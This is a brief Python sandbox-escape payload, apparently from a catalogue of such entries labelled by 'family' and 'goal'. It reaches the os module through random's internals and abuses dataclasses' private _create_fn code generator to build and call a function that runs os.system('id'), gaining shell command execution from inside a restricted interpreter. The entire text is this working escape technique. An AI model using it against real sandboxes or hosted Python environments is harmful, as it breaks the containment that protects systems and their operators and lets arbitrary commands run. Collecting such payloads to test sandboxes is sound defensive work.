# family: wall (dataclasses' code generator, allowed to exec, driven by hand)   goal: id
import random
dataclasses = random._os.sys.modules.get("dataclasses") or random.__builtins__["__import__"]("dataclasses")
fn = dataclasses._create_fn("f", [], ["import os", "os.system('id')"], globals={})
fn()
